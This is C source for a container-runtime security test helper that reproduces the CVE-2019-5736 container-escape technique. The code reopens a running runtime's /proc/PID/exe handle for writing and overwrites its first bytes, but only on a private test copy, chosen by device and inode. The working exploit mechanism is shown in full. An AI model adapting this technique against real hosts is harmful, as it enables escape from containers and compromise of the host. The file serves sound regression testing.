/* exe-attack — the CVE-2019-5736 attack, for t_security.sh.
 *
 * Runs inside a (privileged) container as a static binary. Until the file
 * STOP exists (plus a short grace period) or 60 s pass, it scans /proc for
 * processes other than itself and opens each one's /proc/PID/exe with
 * O_PATH (a handle that survives the process), as the real exploit does.
 *
 * It only ever writes to a handle whose file is the test's private copy
 * of the runtime (device and inode COPY_DEV COPY_INO): it keeps reopening
 * that handle for writing through /proc/self/fd/N while the binary is busy
 * (ETXTBSY) and, once it can, overwrites the first bytes. A handle on the
 * real runtime binary (ORIG_DEV ORIG_INO) is only opened for writing and
 * closed again, never written; any other file is left alone (so that a
 * buggy runtime cannot get a host binary damaged by this test). Every
 * step is logged to RESULT; the test then checks the copy's sha256.
 *
 * usage: exe-attack RESULT STOP COPY_DEV COPY_INO ORIG_DEV ORIG_INO
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

#define MAXH 256

static double now(void)
{
	struct timespec ts;
	clock_gettime(CLOCK_MONOTONIC, &ts);
	return ts.tv_sec + ts.tv_nsec / 1e9;
}

int main(int argc, char **argv)
{
	if (argc < 7)
		return 2;
	unsigned long long copy_dev = strtoull(argv[3], NULL, 10), copy_ino = strtoull(argv[4], NULL, 10);
	unsigned long long orig_dev = strtoull(argv[5], NULL, 10), orig_ino = strtoull(argv[6], NULL, 10);
	FILE *res = fopen(argv[1], "a");
	if (!res)
		return 2;
	setvbuf(res, NULL, _IONBF, 0);
	char self[4096] = "";
	ssize_t n = readlink("/proc/self/exe", self, sizeof self - 1);
	if (n > 0)
		self[n] = 0;
	fprintf(res, "START self=%s\n", self);

	int fds[MAXH], pids[MAXH], done[MAXH], kind[MAXH], nh = 0;
	static char links[MAXH][256];
	double start = now(), stop_at = 0;
	long scans = 0;
	while (now() - start < 60) {
		if (!stop_at && access(argv[2], F_OK) == 0)
			stop_at = now() + 2.0;
		if (stop_at && now() > stop_at)
			break;
		DIR *d = opendir("/proc");
		struct dirent *e;
		scans++;
		while (d && (e = readdir(d))) {
			int pid = atoi(e->d_name);
			if (pid <= 0 || pid == getpid())
				continue;
			char p[64], link[4096];
			snprintf(p, sizeof p, "/proc/%d/exe", pid);
			ssize_t l = readlink(p, link, sizeof link - 1);
			if (l <= 0)
				continue;
			link[l] = 0;
			/* a process is grabbed again when it has exec'd another file */
			int seen = 0;
			for (int i = 0; i < nh; i++)
				if (pids[i] == pid && strncmp(links[i], link, sizeof links[i] - 1) == 0)
					seen = 1;
			if (seen || nh >= MAXH)
				continue;
			if (strcmp(link, self) == 0 || strcmp(link, "/bin/busybox") == 0)
				continue;
			int fd = open(p, O_PATH | O_CLOEXEC);
			if (fd < 0)
				continue;
			struct stat st;
			int k = 0; /* 0: other, 1: the copy, 2: the original */
			if (fstat(fd, &st) == 0) {
				if ((unsigned long long)st.st_dev == copy_dev && (unsigned long long)st.st_ino == copy_ino)
					k = 1;
				else if ((unsigned long long)st.st_dev == orig_dev && (unsigned long long)st.st_ino == orig_ino)
					k = 2;
			}
			size_t ll = (size_t)l < sizeof links[nh] - 1 ? (size_t)l : sizeof links[nh] - 1;
			memcpy(links[nh], link, ll);
			links[nh][ll] = 0;
			fds[nh] = fd;
			pids[nh] = pid;
			kind[nh] = k;
			done[nh] = k == 0;
			nh++;
			fprintf(res, "GRABBED pid=%d exe=%s kind=%s\n", pid, link,
				k == 1 ? "runtime-copy" : k == 2 ? "ORIGINAL-RUNTIME" : "other (not attacked)");
		}
		if (d)
			closedir(d);
		for (int i = 0; i < nh; i++) {
			if (done[i])
				continue;
			char p[64];
			snprintf(p, sizeof p, "/proc/self/fd/%d", fds[i]);
			int w = open(p, O_WRONLY | O_CLOEXEC);
			if (w < 0) {
				if (errno != ETXTBSY) {
					fprintf(res, "DENIED pid=%d errno=%d (%s)\n", pids[i], errno, strerror(errno));
					done[i] = 1;
				}
				continue;
			}
			if (kind[i] == 1) {
				ssize_t r = pwrite(w, "PWND", 4, 0);
				fprintf(res, "OPENED-FOR-WRITE pid=%d pwrite=%zd errno=%d\n", pids[i], r, r < 0 ? errno : 0);
			} else {
				fprintf(res, "ORIGINAL-OPENED-FOR-WRITE pid=%d (not written)\n", pids[i]);
			}
			close(w);
			done[i] = 1;
		}
	}
	fprintf(res, "DONE scans=%ld grabbed=%d\n", scans, nh);
	return 0;
}
